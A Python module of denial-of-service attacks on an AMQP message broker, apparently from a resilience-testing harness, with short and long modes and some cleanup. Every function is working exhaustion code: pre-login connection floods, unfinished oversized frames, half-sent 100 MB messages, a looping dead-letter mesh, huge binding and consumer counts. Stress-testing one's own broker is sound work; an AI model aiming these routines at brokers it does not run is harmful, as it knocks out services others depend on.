"""Attacks over AMQP: before log-in, with what connections hold, and with work that costs much."""
import contextlib
import socket
import struct
import time

from fast import Fast, frame, long, method, short as short_text
from frame import QUIET, attack
from http_attacks import close, push

MIB = 1 << 20


def connections(node, count, **options):
    links = []
    for _ in range(count):
        with contextlib.suppress(*QUIET):
            links.append(Fast(node, seconds=20, **options))
    return links


def publish_head(key, size, exchange=""):
    """basic.publish and its header for a body of that size."""
    return method(1, 60, 40, b"\0\0" + short_text(exchange) + short_text(key) + b"\0") + \
        frame(2, 1, struct.pack(">HHQH", 60, 0, size, 0))


@attack
def connection_flood(node, short):
    """Connections that never log in, ten times as many as there are descriptors."""
    for _ in range(2 if short else 10):
        links = []
        for _ in range(400):
            with contextlib.suppress(*QUIET):
                link = socket.create_connection((node.host, node.port), 2)
                link.sendall(b"AMQP\0\0\x09\x01")
                links.append(link)
        time.sleep(0.5)
        close(links)


@attack
def bytes_before_login(node, short):
    """Large frames, never finished, on connections that have not logged in."""
    links = []
    for _ in range(200):
        with contextlib.suppress(*QUIET):
            link = socket.create_connection((node.host, node.port), 2)
            link.sendall(b"AMQP\0\0\x09\x01" + struct.pack(">BHL", 1, 0, 131064))
            links.append(link)
    push(links, 131000, 3 if short else 8)
    time.sleep(1)
    close(links)


@attack
def half_bodies(node, short):
    """Half of a message of 100 MB on each of a hundred connections."""
    links = connections(node, 100)
    for link in links:
        link.send(publish_head("nowhere", 100 * MIB))
    piece = frame(3, 1, b"x" * 131064)
    for link in links:
        link.socket.setblocking(False)
    end = time.monotonic() + (8 if short else 30)
    rest = {link: b"" for link in links}
    sent = dict.fromkeys(links, 0)
    while time.monotonic() < end:
        moved = False
        for link in list(rest):
            if sent[link] > 50 * MIB:
                continue
            data = rest[link] or piece
            try:
                n = link.socket.send(data)
                rest[link] = data[n:]
                sent[link] += n
                moved = True
            except BlockingIOError:
                pass
            except OSError:
                del rest[link]
        if not moved:
            time.sleep(0.05)
    close(links)


@attack
def first_publishes(node, short):
    """While the memory is full, the first message of each of many new connections."""
    filler = Fast(node, seconds=5, capabilities=("connection.blocked",))
    filler.declare("full")
    body = b"x" * MIB
    with contextlib.suppress(*QUIET):
        for _ in range(200 if short else 1000):
            filler.send(filler.publish("", "full", body, persistent=False))
    for _ in range(1 if short else 4):
        links = connections(node, 100)
        for link in links:
            link.socket.settimeout(0.2)
            with contextlib.suppress(*QUIET):
                link.send(link.publish("", "full", body, persistent=False))
        close(links)
    filler.close()
    with contextlib.suppress(*QUIET), Fast(node, seconds=60) as last:
        last.delete("full")


@attack
def deaf_consumers(node, short):
    """A hundred consumers that read nothing, of a queue full of messages."""
    with Fast(node) as link:
        link.declare("deaf")
        body = b"x" * 100000
        for _ in range(500 if short else 2000):
            link.send(link.publish("", "deaf", body, persistent=False))
        link.declare("deaf")
        links = connections(node, 100)
        for one in links:
            with contextlib.suppress(*QUIET):
                one.send(method(1, 60, 20, b"\0\0" + short_text("deaf") + short_text("") + b"\x08" + long(b"")))
        time.sleep(2 if short else 10)
        close(links)
        link.delete("deaf")


def string_table(pairs):
    return b"".join(short_text(key) + b"S" + long(value.encode()) for key, value in pairs)


@attack
def headers_exchange(node, short):
    """Messages with a thousand headers through an exchange of very many bindings."""
    bindings = 3000 if short else 100000
    with Fast(node, seconds=250) as link:
        link.declare("h")
        link.exchange("hx", "headers")
        for i in range(bindings):
            arguments = string_table((("x-match", "all"), (f"k{i % 1000}", f"v{i}"), ("other", "never")))
            link.send(method(1, 50, 20, b"\0\0" + short_text("h") + short_text("hx") + short_text("") + b"\x01" + long(arguments)))
        link.declare("h")
        headers = string_table([(f"k{i}", "w") for i in range(1000)])
        link.send(b"".join(link.publish("hx", "", b"", persistent=False, headers=headers) for _ in range(20 if short else 100)))
        link.declare("h")


@attack
def dead_letter_mesh(node, short):
    """Nine queues. Each dead-letters to an exchange that leads to all nine."""
    with Fast(node, seconds=250) as link:
        link.exchange("mesh", "fanout")
        arguments = short_text("x-message-ttl") + b"I" + struct.pack(">l", 10) + string_table([("x-dead-letter-exchange", "mesh")])
        for i in range(9):
            link.declare(f"mesh{i}", arguments=arguments)
            link.bind(f"mesh{i}", "mesh")
        for i in range(1 if short else 5):
            link.send(link.publish("mesh", f"{i}", b"x" * 1000))
        time.sleep(4 if short else 15)
        for i in range(9):
            link.delete(f"mesh{i}")


@attack
def hash_rings(node, short):
    """Bindings of great weight to a consistent-hash exchange."""
    with Fast(node, seconds=100) as link:
        link.exchange("ring", "x-consistent-hash")
        link.declare("r")
        with contextlib.suppress(*QUIET):
            for i in range(200 if short else 2000):
                link.send(method(1, 50, 20, b"\0\0" + short_text("r") + short_text("ring") + short_text(f"{1000000 + i}")
                                 + b"\x01" + long(string_table([("n", str(i))]))))
            link.declare("r")


@attack
def many_consumers(node, short):
    """As many consumers as fit on a channel, made and cancelled."""
    count = 4000 if short else 65000
    with Fast(node, seconds=250) as link:
        link.declare("c")
        for i in range(count):
            link.send(method(1, 60, 20, b"\0\0" + short_text("c") + short_text(f"t{i}") + b"\x08" + long(b"")))
        link.declare("c")
        for i in range(count):
            link.send(method(1, 60, 30, short_text(f"t{i}") + b"\x01"))
        link.declare("c")
